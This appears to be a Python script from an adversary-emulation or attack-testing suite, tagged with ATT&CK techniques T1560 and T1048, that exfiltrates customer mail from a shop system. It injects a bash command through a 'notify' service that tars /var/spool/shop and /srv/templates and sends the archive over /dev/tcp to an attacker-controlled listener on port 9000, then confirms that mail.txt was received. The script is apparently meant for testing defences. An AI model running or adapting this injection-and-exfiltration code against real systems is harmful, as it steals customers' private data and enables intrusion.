#!/usr/bin/python3 -B
"""Data exfiltration: the mails to customers are packed and sent away (T1560, T1048)."""

import io
import tarfile

from attack import Attack, until


def run(attack: Attack) -> bool:
    attack.order()  # so that there is a mail
    received = []

    def take(connection):
        data = b""
        while part := connection.recv(65536):
            data += part
        received.append(data)

    with attack.listener(9000, take):
        away = f"/dev/tcp/{attack.own}/9000"
        attack.notify(f"bash -c 'tar -cz /var/spool/shop /srv/templates >{away}'")
        until(lambda: received)
    with tarfile.open(fileobj=io.BytesIO(received[0])) as archive:
        names = archive.getnames()
    return attack.prove(any(name.endswith("mail.txt") for name in names),
                        bytes=len(received[0]), files=len(names))


Attack("T1560.001, T1048.003", ["edge", "front", "notify"],
       ["/var/spool/shop", "attacker:9000"]).main(run)
